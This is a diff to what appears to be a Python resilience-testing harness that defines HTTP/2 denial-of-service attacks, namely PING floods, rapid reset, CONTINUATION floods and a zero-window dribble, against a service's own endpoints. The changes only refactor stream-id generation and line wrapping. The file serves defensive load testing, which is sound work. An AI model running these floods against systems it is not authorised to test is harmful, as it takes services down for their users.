@@ -51,7 +51,8 @@ def frames(context, one):
 def pings_with_requests(context):
     """Pays for the frames: each request, which is not limited by address, adds 64 KiB to the allowance."""
     pings, block = http2.frame(http2.PING, payload=bytes(8)) * 3_700, http2.get("/health")
-    return flooded(context, http2.PREFACE + http2.settings() + b"".join(http2.request(1 + 2 * stream, block) + pings for stream in range(500)))
+    requests = b"".join(http2.request(stream, block) + pings for stream in range(1, 1_000, 2))
+    return flooded(context, http2.PREFACE + http2.settings() + requests)
 
 
 def dribble(context):
@@ -74,9 +75,10 @@ ATTACKS = {
         functools.partial(never_read, paths=["/openapi.json"], piece=http2.frame(http2.PING, payload=bytes(8)), interval=75.0),
         NO_RATE_LIMIT, 100),
     "http2-dribble": Attack(
-        "HTTP/2, window 0: 250 connections × 100 streams of `GET /users?limit=20`, a window of one byte every 5 s", UNSENT, dribble,
-        NO_RATE_LIMIT, 60),
-    "http2-rapid-reset": Attack("HTTP/2 rapid reset (HEADERS, RST_STREAM)", "20 reset streams that wait", rapid_reset, NO_RATE_LIMIT),
+        "HTTP/2, window 0: 250 connections × 100 streams of `GET /users?limit=20`, a window of one byte every 5 s", UNSENT,
+        dribble, NO_RATE_LIMIT, 60),
+    "http2-rapid-reset": Attack("HTTP/2 rapid reset (HEADERS, RST_STREAM)", "20 reset streams that wait", rapid_reset,
+                                NO_RATE_LIMIT),
     "http2-continuation": Attack("HTTP/2 CONTINUATION flood", "16 KiB of headers, few CONTINUATION frames", continuation),
     "http2-ping": Attack("HTTP/2 PING flood", ALLOWANCE,
                          functools.partial(frames, one=http2.frame(http2.PING, payload=bytes(8)))),
